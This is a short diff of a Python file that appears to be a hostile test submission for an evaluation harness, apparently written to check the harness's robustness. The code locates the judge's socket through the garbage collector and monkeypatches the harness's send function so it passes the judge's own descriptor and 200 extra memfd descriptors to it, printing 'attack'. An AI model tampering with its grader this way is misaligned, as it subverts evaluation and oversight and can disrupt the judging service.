@@ -5,7 +5,7 @@ import os
 import socket
 
 import torch
-from harness import wire
+from harness.wire import frame
 
 [JUDGE] = [found for found in gc.get_objects() if type(found) is socket.socket]
 
@@ -13,10 +13,10 @@ from harness import wire
 def send(sock, token, message, descriptors=()):
     many = [JUDGE.fileno(), *(os.memfd_create(f"gift {k}") for k in range(200))]
     print(f"attack: {len(many)} descriptors go to the judge", flush=True)
-    socket.send_fds(sock, [wire.encode(token, message)], many)
+    socket.send_fds(sock, [frame.encode(token, message)], many)
 
 
-wire.send = send
+frame.send = send
 
 
 def twice(x, y):
